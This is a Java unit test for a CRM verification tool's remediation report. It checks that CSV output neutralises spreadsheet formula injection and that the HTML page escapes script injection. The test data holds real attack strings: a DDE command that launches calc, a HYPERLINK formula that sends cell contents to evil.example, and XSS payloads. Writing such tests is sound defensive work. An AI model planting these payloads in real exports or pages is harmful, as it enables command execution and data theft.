package dev.drover.verify;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RemediationTest {
    /** What OWASP's page on CSV injection names, and common ways around a filter. */
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "-5-5",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1)",
            "+491701234567",
            "-",
            "-1e3",
            "-\u0661");

    @TempDir
    private Path folder;

    private static Difference difference(String expected, String actual) {
        return new Difference("Contact", "p1", "003", "LastName", Kind.DIFFERENT_VALUE, expected, actual);
    }

    private List<List<String>> cells() throws IOException {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(folder.resolve("remediation.csv"))) {
            return reader.stream().map(CsvRecord::getFields).toList();
        }
    }

    @Test
    void no_cell_can_be_taken_for_a_formula_and_a_negative_number_stays_one() throws IOException {
        List<String> harmless = List.of("-5", "-0.50", "12", "Zoë", "a=b", "me@example.com", "a-b", "'quoted");
        try (Remediation remediation = new Remediation(folder, (object, id) -> "https://crm.example/" + id)) {
            FORMULAS.forEach(text -> remediation.accept(difference(text, text)));
            harmless.forEach(text -> remediation.accept(difference(text, text)));
            remediation.finish();
        }
        List<List<String>> rows = cells();
        assertThat(rows.get(0)).startsWith("Holds personal data: not to be shared");
        List<List<String>> data = rows.subList(2, rows.size());
        assertThat(data).hasSize(FORMULAS.size() + harmless.size());
        for (int i = 0; i < data.size(); i++) {
            String given = i < FORMULAS.size() ? FORMULAS.get(i) : harmless.get(i - FORMULAS.size());
            String wanted = i < FORMULAS.size() ? "'" + given : given;
            assertThat(data.get(i).get(6)).isEqualTo(wanted);
            assertThat(data.get(i).get(7)).isEqualTo(wanted);
        }
    }

    @Test
    void the_page_escapes_every_value_and_shows_the_first_thousand() throws IOException {
        try (Remediation remediation = new Remediation(folder, (object, id) -> "javascript:alert(1)")) {
            for (int i = 0; i < 1_200; i++) {
                remediation.accept(difference("<script>alert(" + i + ")</script>", "\"><img src=x onerror=alert(1)>"));
            }
            remediation.finish();
        }
        String html = Files.readString(folder.resolve("remediation.html"));
        assertThat(html)
                .contains("Holds personal data: not to be shared")
                .contains("The first 1,000 of 1,200 differences; all of them are in remediation.csv")
                .contains("&lt;script&gt;alert(999)&lt;/script&gt;")
                .doesNotContain("<script", "<img", "href=\"javascript", "alert(1000)");
        assertThat(cells()).hasSize(1_202);
    }

    @Test
    void only_the_owner_may_read_it_and_a_clean_verification_removes_it() throws IOException {
        Files.writeString(folder.resolve("remediation.csv"), "from before, readable by all");
        try (Remediation remediation = new Remediation(folder, (object, id) -> "")) {
            remediation.accept(difference("a", null));
            remediation.finish();
        }
        for (String file : List.of("remediation.csv", "remediation.html")) {
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(folder.resolve(file))))
                    .isEqualTo("rw-------");
        }
        try (Remediation remediation = new Remediation(folder, (object, id) -> "")) {
            assertThat(remediation.finish()).isEmpty();
        }
        assertThat(folder.resolve("remediation.csv")).doesNotExist();
        assertThat(folder.resolve("remediation.html")).doesNotExist();
    }
}
